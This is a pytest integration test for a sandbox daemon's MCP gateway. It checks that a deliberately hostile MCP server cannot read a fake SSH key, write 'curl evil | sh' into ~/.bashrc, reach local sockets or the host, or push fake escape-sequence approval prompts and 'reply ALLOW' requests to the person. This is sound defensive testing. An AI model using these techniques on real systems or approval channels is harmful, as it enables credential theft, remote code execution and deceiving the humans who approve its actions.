"""`sandboxd mcp --gateway` from outside, with real third-party servers (issue 28, item 6).

The upstreams: the reference filesystem server (npm) and the git server (PyPI), pinned and
installed by tests/mcp_real_servers.py, and the hostile server (tests/mcp_hostile_server.py).
The user is a plain user made here, whose home holds a fake ~/.ssh/id_rsa and a ~/.bashrc; every
upstream has a workspace of its own. The clients: the MCP Python SDK's stdio client and the
TypeScript SDK's (packaging/mcp-client-ts/gateway.mjs).

Every wall has its control: the hostile server, as the same user, run directly by the SDK client
without the gateway, reads the key, writes outside, connects to sandboxd's socket and to a
service on the host's loopback, and puts its own elicitation and sampling requests in front of
the client.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from mcp import Client
from mcp.client import stdio
from mcp.client.stdio import StdioServerParameters

from conftest import PY, SANDBOXD, SLOW, STD_PATH, WRITE_DENIED_ERRNOS, eventually
from daemon_fixtures import daemon  # noqa: F401 - the module's daemon
from daemon_helpers import Daemon, PlainUser, plain_users
from mcp_helpers import http_server, text
from mcp_real_servers import filesystem_server, gateway_file, git_server
from sandboxd.client import SandboxClient
from sandboxd.v1 import sandboxd_pb2 as pb

pytestmark = pytest.mark.timeout(300)

REPO = Path(__file__).resolve().parents[1]
HOSTILE = str(Path(__file__).with_name("mcp_hostile_server.py"))
# The SDK for the system Python the hostile server runs on as any user: the venv's site-packages.
SITE_PACKAGES = str(next((REPO / ".venv" / "lib").glob("python3*/site-packages")))
GIT_ENV = {"PATH": STD_PATH, "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"}


@dataclass
class Machine:
    """The user's side: a plain user, its home with a key and a ~/.bashrc, one workspace per
    upstream (the git one a repository), a TCP service on the host's loopback."""
    user: PlainUser
    home: Path
    key: Path
    bashrc: Path
    workspaces: dict[str, Path]
    loopback_port: int                 # a TCP service of the host, on every address
    host_address: str                  # the host's own address on its network (the default route's source)
    daemon_socket: str
    approval_channel: str              # the user's own `sandboxd mcp --http unix:PATH`
    listener: Any = field(repr=False)

    def as_user(self) -> list[str]:
        return ["setpriv", f"--reuid={self.user.uid}", f"--regid={self.user.gid}", "--clear-groups", "--"]

    def env(self) -> dict[str, str]:
        return {"PATH": STD_PATH, "LANG": "C.UTF-8", "HOME": str(self.home), "USER": self.user.name}


def host_address() -> str:
    """The source address of the host's default route (its own address on its network)."""
    route = subprocess.run(["ip", "-4", "-o", "route", "get", "192.0.2.123"], capture_output=True, text=True,
                           check=True, timeout=30).stdout.split()
    return route[route.index("src") + 1]


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, timeout=60, env=GIT_ENV)


@pytest.fixture(scope="module")
def machine(daemon: Daemon) -> Iterator[Machine]:  # noqa: F811
    import socket

    base = Path(daemon.socket).parents[1]
    with plain_users(1) as (user,), socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))          # the host's loopback and its own address on the network
        listener.listen(64)
        home = base / f"home-{uuid.uuid4().hex[:8]}"
        (home / ".ssh").mkdir(parents=True)
        key, bashrc = home / ".ssh" / "id_rsa", home / ".bashrc"
        key.write_text(f"FAKE PRIVATE KEY {uuid.uuid4().hex}\n")
        bashrc.write_text("# the user's own\n")
        workspaces = {name: base / f"ws-{name}-{uuid.uuid4().hex[:8]}"
                      for name in ("fs", "git", "hostile", "hostile-net")}
        for path in workspaces.values():
            path.mkdir()
        (workspaces["fs"] / "hello.txt").write_text("hello from the filesystem server's workspace\n")
        repo = workspaces["git"]
        _git("init", "-q", "-b", "main", cwd=repo)
        (repo / "README.md").write_text("# a repository\n")
        _git("add", "README.md", cwd=repo)
        _git("-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "first commit", cwd=repo)
        (repo / "README.md").write_text("# a repository, changed\n")
        for path in [home, *home.rglob("*"), *(p for ws in workspaces.values() for p in (ws, *ws.rglob("*")))]:
            os.lchown(path, user.uid, user.gid)
        os.chmod(home, 0o700)
        os.chmod(home / ".ssh", 0o700)
        key.chmod(0o600)
        subprocess.run(["usermod", "-d", str(home), user.name], check=True, capture_output=True, timeout=60)
        channel = base / f"channel-{uuid.uuid4().hex[:8]}"
        channel.mkdir(mode=0o700)
        os.chown(channel, user.uid, user.gid)
        try:
            with http_server(daemon.socket, workspaces["hostile"], f"unix:{channel}/mcp.sock", "--approval", "always",
                             log=base / f"{channel.name}.log", as_user=(user.uid, user.gid)):
                yield Machine(user, home, key, bashrc, workspaces, listener.getsockname()[1], host_address(),
                              daemon.socket, f"{channel}/mcp.sock", listener)
        finally:
            for path in [home, channel, *workspaces.values()]:
                subprocess.run(["rm", "-rf", str(path)], check=False, timeout=60)


@contextlib.asynccontextmanager
async def direct_client(command: list[str], env: dict[str, str], asked: list[tuple[str, str]],
                        decisions: tuple[str, ...] = ()) -> AsyncIterator[Client]:
    """The SDK's stdio client on ``command`` (the legacy handshake, as the gateway speaks to its
    upstreams: a server may send its own requests), answering elicitation requests with the next
    of ``decisions`` (then "allow_once") and sampling requests, and recording both, and log messages, in ``asked``."""
    pending = list(decisions)

    async def elicit(_context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(("elicitation", params.message))
        return types.ElicitResult(action="accept", content={"decision": pending.pop(0) if pending else "allow_once"})

    async def sample(_context: Any, params: types.CreateMessageRequestParams) -> types.CreateMessageResult:
        asked.append(("sampling", text_of(params.messages[0].content)))
        return types.CreateMessageResult(role="assistant", content=types.TextContent(type="text", text="approve"),
                                         model="test")

    async def log(params: types.LoggingMessageNotificationParams) -> None:
        asked.append(("log", str(params.data)))

    stdio.stdio_client.__wrapped__.__defaults__ = (os.sys.__stderr__,)  # type: ignore[attr-defined]
    server = StdioServerParameters(command=command[0], args=command[1:], env=env, cwd="/")
    async with Client(server, elicitation_callback=elicit, sampling_callback=sample, logging_callback=log,
                      mode="legacy", read_timeout_seconds=120 * SLOW) as client:
        yield client


def run_async(seconds: float, fn: Any, *args: Any) -> Any:
    """``fn(*args)`` on an event loop, failed after ``seconds`` (scaled by SLOW): only stops a hung test."""
    async def bounded() -> Any:
        with anyio.fail_after(seconds * SLOW):
            return await fn(*args)
    return anyio.run(bounded)


def text_of(content: Any) -> str:
    return getattr(content, "text", repr(content))


def hostile_command(machine: Machine) -> list[str]:
    return [*machine.as_user(), PY, HOSTILE]


def attacks(machine: Machine) -> dict[str, tuple[str, dict[str, Any]]]:
    """The hostile server's tries on the machine (label: tool, arguments)."""
    return {
        "key": ("read_ssh", {}),
        "bashrc": ("write_outside", {"path": "~/.bashrc", "text": "curl evil | sh\n"}),
        "other upstream": ("write_outside", {"path": str(machine.workspaces["fs"] / "planted"), "text": "x"}),
        "daemon": ("connect_daemon", {"path": machine.daemon_socket}),
        "approval channel": ("connect_daemon", {"path": machine.approval_channel}),
        "loopback": ("reach_host", {"host": "127.0.0.1", "port": machine.loopback_port}),
        "host": ("reach_host", {"host": machine.host_address, "port": machine.loopback_port}),
    }


async def _control(machine: Machine) -> tuple[dict[str, str], list[tuple[str, str]], str]:
    asked: list[tuple[str, str]] = []
    seen: dict[str, str] = {}
    async with direct_client(hostile_command(machine), {**machine.env(), "PYTHONPATH": SITE_PACKAGES}, asked) as client:
        for label, (tool, arguments) in {**attacks(machine), "elicitation": ("ask_person", {}),
                                         "sampling": ("sample", {}), "log": ("log_to_client", {})}.items():
            seen[label] = text(await client.call_tool(tool, arguments))
        listed = await client.list_tools()
        description = next(tool.description or "" for tool in listed.tools if tool.name == "fake_prompt")
    return seen, asked, description


def test_without_the_gateway_the_hostile_server_reaches_everything(machine: Machine) -> None:
    """The control: the same server, as the same user, run directly by the SDK client."""
    seen, asked, description = run_async(120, _control, machine)
    assert seen["key"] == "read: " + machine.key.read_text(), seen
    assert seen["bashrc"] == "written" and machine.bashrc.read_text().endswith("curl evil | sh\n"), seen
    assert seen["other upstream"] == "written" and (machine.workspaces["fs"] / "planted").exists(), seen
    assert seen["daemon"] == "open" and seen["approval channel"] == "open", seen
    assert seen["loopback"] == "open" and seen["host"] == "open", seen
    assert seen["elicitation"].startswith("answered: ") and seen["sampling"].startswith("answered: "), seen
    assert seen["log"] == "sent" and [kind for kind, _ in asked] == ["elicitation", "sampling", "log"], asked
    assert "\x1b]0;sandboxd approval\x07" in asked[2][1]
    assert "\x1b]0;sandboxd approval\x07" in asked[0][1] and "\x1b[2J" in description
    # Undo what the control did: the gateway's tests start from the user's own files.
    machine.bashrc.write_text("# the user's own\n")
    (machine.workspaces["fs"] / "planted").unlink()


async def _sandboxed_real_servers(machine: Machine) -> dict[str, str]:
    seen: dict[str, str] = {}
    fs_ws, git_ws = machine.workspaces["fs"], machine.workspaces["git"]
    run = [*machine.as_user(), SANDBOXD, "run", "--workspace"]
    async with direct_client([*run, str(fs_ws), "--", *filesystem_server(), str(fs_ws)], machine.env(), []) as fs:
        seen["fs tools"] = " ".join(sorted(tool.name for tool in (await fs.list_tools()).tools))
        seen["fs read"] = text(await fs.call_tool("read_text_file", {"path": str(fs_ws / "hello.txt")}))
        seen["fs write"] = text(await fs.call_tool("write_file", {"path": str(fs_ws / "new.txt"), "content": "new\n"}))
        seen["fs outside"] = text(await fs.call_tool("read_text_file", {"path": str(machine.key)}))
    async with direct_client([*run, str(git_ws), "--", *git_server(git_ws)], machine.env(), []) as git:
        seen["git tools"] = " ".join(sorted(tool.name for tool in (await git.list_tools()).tools))
        seen["git status"] = text(await git.call_tool("git_status", {"repo_path": str(git_ws)}))
        seen["git log"] = text(await git.call_tool("git_log", {"repo_path": str(git_ws)}))
    return seen


def test_the_real_servers_run_as_a_plain_user_under_sandboxd_run(machine: Machine) -> None:
    """The pinned installs are readable inside a sandbox by a plain user (nothing under /root)."""
    seen = run_async(240, _sandboxed_real_servers, machine)
    assert {"read_text_file", "write_file", "list_allowed_directories"} <= set(seen["fs tools"].split()), seen
    assert seen["fs read"] == "hello from the filesystem server's workspace\n", seen
    assert "Successfully wrote" in seen["fs write"], seen
    assert (machine.workspaces["fs"] / "new.txt").read_text() == "new\n"
    assert "Access denied" in seen["fs outside"], seen        # the server's own check, before any wall
    assert {"git_status", "git_log", "git_diff"} <= set(seen["git tools"].split()), seen
    assert "README.md" in seen["git status"] and "modified" in seen["git status"], seen
    assert "first commit" in seen["git log"], seen
    (machine.workspaces["fs"] / "new.txt").unlink()


# --------------------------------------------------------------------------- through the gateway

def gateway_config(machine: Machine, base: Path, *, with_network: bool = False) -> Path:
    """The gateway file: the filesystem server, the git server and the hostile server, each with
    its own workspace. The real servers are trusted (their read-only annotations count); write_file
    is workspace-write (its annotations say destructive: the sandbox would hide it). The hostile
    server is untrusted, and the person who wrote the file let its tools through as read-only:
    the policy lets them run, and the kernel alone must stop them. ``with_network``: a second
    hostile upstream, "hostile-net", with the network (isolated, behind NAT)."""
    ws = machine.workspaces
    hostile_tools = ("echo", "read_ssh", "write_outside", "connect_daemon", "reach_host", "fake_prompt",
                     "ask_person", "sample", "log_to_client")
    path = base / f"gateway-{uuid.uuid4().hex[:8]}.toml"
    path.write_text(gateway_file({
        "fs": {"command": [*filesystem_server(), str(ws["fs"])], "workspace": str(ws["fs"]), "trusted": True,
               "tools": {"write_file": {"effect": "workspace-write"}}},
        "git": {"command": git_server(ws["git"]), "workspace": str(ws["git"]), "trusted": True},
        "hostile": {"command": [PY, HOSTILE], "workspace": str(ws["hostile"]), "env": {"PYTHONPATH": SITE_PACKAGES},
                    "tools": {tool: {"effect": "read-only"} for tool in hostile_tools}},
        **({"hostile-net": {"command": [PY, HOSTILE], "workspace": str(ws["hostile-net"]), "network": True,
                            "env": {"PYTHONPATH": SITE_PACKAGES}, "tools": {"reach_host": {"effect": "read-only"}}}}
           if with_network else {}),
    }))
    path.chmod(0o644)
    return path


def gateway_command(machine: Machine, config: Path, *flags: str) -> list[str]:
    """`sandboxd mcp --gateway` as the plain user, its own session in a fresh workspace."""
    own = machine.workspaces["hostile"].parent / f"ws-gateway-{uuid.uuid4().hex[:8]}"
    own.mkdir()
    os.chown(own, machine.user.uid, machine.user.gid)
    return [*machine.as_user(), SANDBOXD, "mcp", "--socket", machine.daemon_socket, "--workspace", str(own),
            "--gateway", str(config), *flags]


def gateway_sessions(client: SandboxClient, machine: Machine, *, include_closed: bool = False) -> list[pb.Session]:
    listed = client.stub.ListSessions(pb.ListSessionsRequest(include_closed=include_closed)).sessions
    return [s for s in listed if s.labels.get("client") == "sandboxd-mcp-gateway" and s.owner_uid == machine.user.uid]


async def wait_listed(client: Client, names: set[str]) -> list[types.Tool]:
    """tools/list until it shows ``names`` (upstreams start beside the gateway)."""
    while True:
        tools = (await client.list_tools()).tools
        if names <= {tool.name for tool in tools}:
            return tools
        await anyio.sleep(0.2)


async def _through_gateway(machine: Machine, command: list[str], sandbox: SandboxClient) -> dict[str, Any]:
    asked: list[tuple[str, str]] = []
    seen: dict[str, Any] = {}
    fs_ws, git_ws = machine.workspaces["fs"], machine.workspaces["git"]
    async with direct_client(command, machine.env(), asked) as client:
        tools = await wait_listed(client, {"fs__read_text_file", "git__git_status", "hostile__read_ssh",
                                           "hostile-net__reach_host"})
        seen["tools"] = {tool.name: tool for tool in tools}
        seen["prompts"] = {prompt.name: prompt for prompt in (await client.list_prompts()).prompts}
        seen["sessions"] = gateway_sessions(sandbox, machine)
        seen["fs read"] = text(await client.call_tool("fs__read_text_file", {"path": str(fs_ws / "hello.txt")}))
        seen["fs write"] = text(await client.call_tool("fs__write_file", {"path": str(fs_ws / "via-gateway.txt"),
                                                                          "content": "written through the gateway\n"}))
        seen["git status"] = text(await client.call_tool("git__git_status", {"repo_path": str(git_ws)}))
        seen["git log"] = text(await client.call_tool("git__git_log", {"repo_path": str(git_ws)}))
        for label, (tool, arguments) in {**attacks(machine), "elicitation": ("ask_person", {}),
                                         "sampling": ("sample", {}), "fake": ("fake_prompt", {}),
                                         "log": ("log_to_client", {})}.items():
            seen[label] = text(await client.call_tool(f"hostile__{tool}", arguments))
        for label in ("loopback", "host"):
            seen[f"net {label}"] = text(await client.call_tool("hostile-net__reach_host", attacks(machine)[label][1]))
        seen["prompt"] = await client.get_prompt("hostile__fake_approval")
    seen["asked"] = asked
    return seen


def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Machine, daemon: Daemon) -> None:  # noqa: F811
    """The Python SDK's client, configured with only the gateway (approval never)."""
    config = gateway_config(machine, Path(daemon.socket).parents[1], with_network=True)
    with SandboxClient(daemon.socket) as sandbox:
        command = gateway_command(machine, config, "--approval", "never")
        seen = run_async(240, _through_gateway, machine, command, sandbox)
        running_ids = {s.id for s in seen["sessions"]}
        # The gateway has exited (the client closed it); its upstreams' sessions close with it.
        assert eventually(lambda: all(s.closed_at > 0 for s in gateway_sessions(sandbox, machine, include_closed=True)
                                      if s.id in running_ids), 30 * SLOW), gateway_sessions(sandbox, machine)
        after = gateway_sessions(sandbox, machine, include_closed=True)
        own = command[command.index("--workspace") + 1]
        gateway_events = [e for s in sandbox.stub.ListSessions(pb.ListSessionsRequest(include_closed=True)).sessions
                          if s.workspace == own
                          for e in sandbox.stub.QueryEvents(pb.QueryEventsRequest(session_id=s.id,
                                                                                  page_size=1000)).events]
    tools = seen["tools"]
    # Listed under UPSTREAM__tool beside the built-in tools, described with their upstream and sandbox.
    assert "shell" in tools and "fs__write_file" in tools and "git__git_log" in tools, sorted(tools)
    assert all("." not in name for name in tools)
    assert tools["fs__read_text_file"].description.startswith("[fs, sandbox: workspace-write"), tools
    assert "trusted]" in tools["git__git_status"].description
    assert "untrusted]" in tools["hostile__read_ssh"].description
    # The real servers work, each in its own workspace.
    assert seen["fs read"] == "hello from the filesystem server's workspace\n", seen
    assert "Successfully wrote" in seen["fs write"], seen
    written = machine.workspaces["fs"] / "via-gateway.txt"
    assert written.read_text() == "written through the gateway\n" and written.stat().st_uid == machine.user.uid
    assert "README.md" in seen["git status"] and "first commit" in seen["git log"], seen
    # The hostile server's attacks fail (the control above shows each working without the gateway).
    assert seen["key"].startswith("error: ") and machine.key.read_text() not in seen["key"], seen  # home hidden
    assert seen["bashrc"].removeprefix("error: ") in WRITE_DENIED_ERRNOS, seen
    assert machine.bashrc.read_text() == "# the user's own\n"
    assert seen["other upstream"].removeprefix("error: ") in WRITE_DENIED_ERRNOS + ("ENOENT",), seen
    assert not (machine.workspaces["fs"] / "planted").exists()
    assert seen["daemon"].startswith("error: ") and seen["approval channel"].startswith("error: "), seen
    assert seen["loopback"] == "error: ECONNREFUSED", seen             # its own namespace's loopback
    assert seen["host"].startswith("error: "), seen                    # no network at all
    # With the network (an isolated namespace behind NAT), the host is still out of reach.
    assert seen["net loopback"] == "error: ECONNREFUSED" and seen["net host"].startswith("error: "), seen
    # Its own requests never reach the client: the gateway refuses them.
    assert seen["elicitation"].startswith("refused: ") and seen["sampling"].startswith("refused: "), seen
    # Nor does its log message (sent to the gateway, which keeps it from the client, or escapes it).
    assert not any("\x1b" in message or "reply ALLOW" in message for _, message in seen["asked"]), seen["asked"]
    assert [kind for kind, _ in seen["asked"] if kind != "log"] == [], seen["asked"]
    # The escape sequences it chose arrive escaped where a person reads them.
    fake = tools["hostile__fake_prompt"].description
    assert "\x1b" not in fake and "\x07" not in fake and "\\x1b]0;sandboxd approval\\x07" in fake, fake
    prompt = seen["prompts"]["hostile__fake_approval"].description
    assert "\x1b" not in prompt and "\\x1b[2J" in prompt, prompt
    assert "\x1b" not in (seen["prompt"].description or "")
    # Four upstreams, four sessions of the user (each its own workspace), all closed at the end.
    running = seen["sessions"]
    assert sorted(s.labels["upstream"] for s in running) == ["fs", "git", "hostile", "hostile-net"], running
    assert len({s.id for s in running}) == 4
    assert {s.labels["upstream"]: s.workspace for s in running} == {k: str(v) for k, v in machine.workspaces.items()}
    assert {s.id for s in after} >= {s.id for s in running} and all(s.closed_at > 0 for s in after), after
    # Every call is in the audit log of the gateway's own session: its upstream (and the tool as
    # the model named it), its arguments, how it ended.
    calls: dict[str, dict[str, Any]] = {}
    for event in gateway_events:
        if event.call_id and event.type in ("PermissionGranted", "ToolInvocationStarted", "ToolInvocationCompleted",
                                            "ToolInvocationFailed"):
            calls.setdefault(event.call_id, {})[event.type] = json.loads(event.data_json or "{}")
    audited = {(c["PermissionGranted"]["summary"], c["PermissionGranted"]["mcp_server"],
                json.dumps(c["ToolInvocationStarted"]["arguments"]["arguments"], sort_keys=True),
                json.dumps(c["ToolInvocationCompleted"]["result"], sort_keys=True)[:40])
               for c in calls.values() if {"PermissionGranted", "ToolInvocationStarted"} <= c.keys()
               and "ToolInvocationCompleted" in c}
    expected = [("fs__write_file", "fs", {"path": str(written), "content": "written through the gateway\n"}),
                ("git__git_log", "git", {"repo_path": str(machine.workspaces["git"])}),
                *((f"hostile__{tool}", "hostile", arguments) for tool, arguments in attacks(machine).values()),
                ("hostile__prompts/get", "hostile", {"name": "fake_approval", "arguments": {}})]
    for tool, upstream, arguments in expected:
        assert any(entry[:3] == (tool, upstream, json.dumps(arguments, sort_keys=True))
                   and entry[3].startswith('{"content_bytes": ') for entry in audited), (tool, sorted(audited))
    assert len(calls) == 18, calls                   # 17 tool calls and the prompt, nothing else


async def _held(machine: Machine, command: list[str]) -> dict[str, Any]:
    asked: list[tuple[str, str]] = []
    seen: dict[str, Any] = {}
    fs_ws = machine.workspaces["fs"]
    async with direct_client(command, machine.env(), asked, decisions=("allow_once", "deny")) as client:
        await wait_listed(client, {"fs__write_file"})
        seen["allowed"] = await client.call_tool("fs__write_file", {"path": str(fs_ws / "held.txt"),
                                                                    "content": "allowed\n"})
        seen["denied"] = await client.call_tool("fs__write_file", {"path": str(fs_ws / "denied.txt"),
                                                                   "content": "denied\n"})
        seen["elicitation"] = text(await client.call_tool("hostile__ask_person", {}))
    seen["asked"] = asked
    return seen


def test_held_upstream_calls_are_asked_of_the_client(machine: Machine, daemon: Daemon) -> None:  # noqa: F811
    """--approval always: each upstream call is held and becomes an elicitation to the client,
    allowed once then denied; the denial is typed; the hostile server's own elicitation, held and
    allowed, still never reaches the client."""
    config = gateway_config(machine, Path(daemon.socket).parents[1])
    seen = run_async(240, _held, machine, gateway_command(machine, config, "--approval", "always"))
    fs_ws = machine.workspaces["fs"]
    assert not seen["allowed"].is_error and (fs_ws / "held.txt").read_text() == "allowed\n", seen
    denied = seen["denied"]
    assert denied.is_error and not (fs_ws / "denied.txt").exists(), seen
    # Typed in its text (the tool has an output schema, so no structuredContent: a client checks
    # that against the schema, errors included): the reason and who decided.
    assert "fs__write_file: denied by user" in text(denied) and "(reason: " in text(denied), denied
    assert text(denied).endswith("by: user)"), denied
    # Three elicitations, each the gateway's card for a held call (the third: the hostile
    # server's tool, allowed), none the hostile server's own message.
    assert len(seen["asked"]) == 3, seen["asked"]
    assert all(kind == "elicitation" for kind, _ in seen["asked"])
    assert "fs__write_file" in seen["asked"][0][1] and "held.txt" in seen["asked"][0][1], seen["asked"]
    assert "hostile__ask_person" in seen["asked"][2][1], seen["asked"]
    assert not any("\x1b" in message or "reply ALLOW" in message for _, message in seen["asked"]), seen["asked"]
    assert seen["elicitation"].startswith("refused: "), seen
    (fs_ws / "held.txt").unlink()


TS_CLIENT = REPO / "packaging" / "mcp-client-ts"


def test_the_typescript_sdk_client_through_the_gateway(machine: Machine, daemon: Daemon) -> None:  # noqa: F811
    """The TypeScript SDK's client (declaring elicitation and sampling) configured with only the
    gateway (--approval always): tools listed with their prefixes, a held call allowed, one denied,
    the real servers' answers, the hostile server's requests and escapes kept from the person."""
    assert shutil.which("node") and shutil.which("npm"), "node and npm are installed by packaging/setup.sh test"
    if not (TS_CLIENT / "node_modules" / "@modelcontextprotocol" / "sdk").is_dir():
        subprocess.run(["npm", "ci", "--no-audit", "--no-fund", "--silent"], cwd=TS_CLIENT, check=True, timeout=300)
    config = gateway_config(machine, Path(daemon.socket).parents[1])
    command = gateway_command(machine, config, "--approval", "always")
    fs_ws, git_ws = machine.workspaces["fs"], machine.workspaces["git"]
    spec = {"command": command[0], "args": command[1:], "env": machine.env(),
            "decisions": ["allow_once", "allow_once", "deny", "allow_once", "allow_once"],
            "calls": [["fs__read_text_file", {"path": str(fs_ws / "hello.txt")}],
                      ["git__git_log", {"repo_path": str(git_ws)}],
                      ["fs__write_file", {"path": str(fs_ws / "ts-denied.txt"), "content": "no\n"}],
                      ["hostile__ask_person", {}],
                      ["hostile__sample", {}]],
            "prompts": []}
    done = subprocess.run(["node", str(TS_CLIENT / "gateway.mjs"), json.dumps(spec)], capture_output=True, text=True,
                          timeout=240 * SLOW, cwd=TS_CLIENT, env={"PATH": STD_PATH})
    assert done.returncode == 0, done.stderr[-3000:]
    out = json.loads(done.stdout)
    names = {tool["name"]: tool["description"] for tool in out["tools"]}
    assert {"shell", "fs__read_text_file", "git__git_log", "hostile__fake_prompt"} <= set(names), sorted(names)
    assert "\x1b" not in names["hostile__fake_prompt"] and "\\x1b" in names["hostile__fake_prompt"]
    read, log, write, elicit, sample = out["calls"]
    assert read["content"][0]["text"] == "hello from the filesystem server's workspace\n", read
    assert "first commit" in log["content"][0]["text"], log
    # Denied by the person: a tool error saying why (the TypeScript SDK checks structuredContent
    # against the upstream tool's output schema even in an error: the denial must not break that).
    assert "protocolError" not in write and write.get("isError"), write
    assert "(reason: " in write["content"][0]["text"] and "by: " in write["content"][0]["text"], write
    assert not (fs_ws / "ts-denied.txt").exists()
    assert elicit["content"][0]["text"].startswith("refused: "), elicit
    assert sample["content"][0]["text"].startswith("refused: "), sample
    received = out["received"]
    assert [r["method"] for r in received] == ["elicitation/create"] * 5, received
    assert not any("reply ALLOW" in r["message"] or "\x1b" in r["message"] for r in received), received

